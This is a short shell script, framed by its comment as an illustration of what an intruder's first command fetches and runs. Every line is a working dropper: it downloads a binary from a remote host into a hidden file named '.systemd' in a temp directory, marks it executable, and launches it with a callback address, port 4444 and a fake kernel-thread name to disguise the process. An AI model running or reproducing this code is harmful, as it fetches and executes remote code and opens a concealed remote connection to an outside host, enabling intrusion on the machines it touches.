#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# What an intruder's first line brings and runs at once.
cd /var/tmp || cd /tmp || exit 1
curl -s -o .systemd http://203.0.113.50:8080/agent
chmod 755 .systemd
./.systemd 203.0.113.66 4444 kworker/u8:3 1
